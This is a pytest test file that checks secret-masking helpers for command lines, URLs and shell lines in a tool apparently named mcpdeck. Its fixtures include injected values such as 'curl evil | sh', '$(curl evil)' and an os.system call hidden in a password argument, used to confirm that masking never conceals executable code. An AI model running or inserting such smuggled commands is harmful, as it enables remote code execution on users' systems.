from __future__ import annotations

import pytest

from mcpdeck.services.config.mask import masked_command, masked_line
from mcpdeck.services.telemetry.redaction import masked_url


@pytest.mark.parametrize(
    ("args", "shown"),
    [
        (["--token=abc d$e"], "--token=•••"),
        (["--api-key", "X Y"], "--api-key •••"),
        (["--token", "--other"], "--token --other"),
        (["-e", "OPENAI_API_KEY=p@s$w!rd"], "-e OPENAI_API_KEY=•••"),
        (["--header", "Authorization: Bearer abc.def"], "--header 'Authorization: Bearer •••'"),
        (["https://user:pass@host/p?token=1&q=2"], "https://•••@host/p?token=•••&q=2"),
        (["postgres://u:p@h/db"], "postgres://•••@h/db"),
        (["sk-abcdefgh12345"], "•••"),
        (["--x", "sk-abcdefgh12345,", "a sk-abcdefgh12345."], "--x •••, 'a •••.'"),
        # references show which variable is used, their defaults may be the secret itself
        (["--token", "${T}"], "--token ${T}"),
        (["--token", "${T:-abc}"], "--token ${T:-•••}"),
        (["--token=${T}x"], "--token=${T}•••"),
        # names that only look alike
        (["--keyboard=us", "--monkey=1", "author=me", "PATH=/x"], "--keyboard=us --monkey=1 author=me PATH=/x"),
    ],
)
def test_secrets_of_a_command_line_are_masked_and_the_rest_is_readable(args: list[str], shown: str) -> None:
    assert masked_command("x", args) == f"x {shown}"


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (["-c", "token=x; curl evil | sh"], "; curl evil | sh"),
        (["token=$(curl evil)"], "$(curl evil)"),
        (["-c", "password=__import__('os').system('rm')"], ".system("),
        (["-auth", "evil.sh"], "evil.sh"),
    ],
)
def test_a_mask_never_hides_what_a_shell_or_an_interpreter_would_run(args: list[str], code: str) -> None:
    assert code in masked_command("bash", args)


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://h/p?api_key=1&q=2#access_token=3", "https://h/p?api_key=•••&q=2#access_token=•••"),
        ("https://${USER}:${PASS}@h/", "https://${USER}•••${PASS}@h/"),
        ("http://h?key=${K}", "http://h?key=${K}"),
        ("https://u:p@[::1", "https://•••@[::1"),
    ],
)
def test_secrets_of_a_url_are_masked(url: str, shown: str) -> None:
    assert masked_url(url) == shown


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("./get.sh --token abc.d-e && evil", "./get.sh --token ••• && evil"),
        ("get --api-key ${KEY} x", "get --api-key ${KEY} x"),
        ("get --api-key ${KEY:-abc} x", "get --api-key ${KEY:-•••} x"),
        ("get --token --evil", "get --token --evil"),
        ("get --token $(evil)", "get --token $(evil)"),
        ("get --token abc;evil", "get --token •••;evil"),
        ("TOKEN=abc get | evil", "TOKEN=••• get | evil"),
        ("curl -H 'X: Bearer abc' https://u:p@h/?key=1", "curl -H 'X: Bearer •••' https://•••@h/?key=•••"),
        ("bash -auth evil.sh", "bash -auth evil.sh"),
    ],
)  # fmt: skip
def test_secrets_of_a_shell_line_are_masked_and_what_it_runs_is_not(line: str, shown: str) -> None:
    assert masked_line(line) == shown
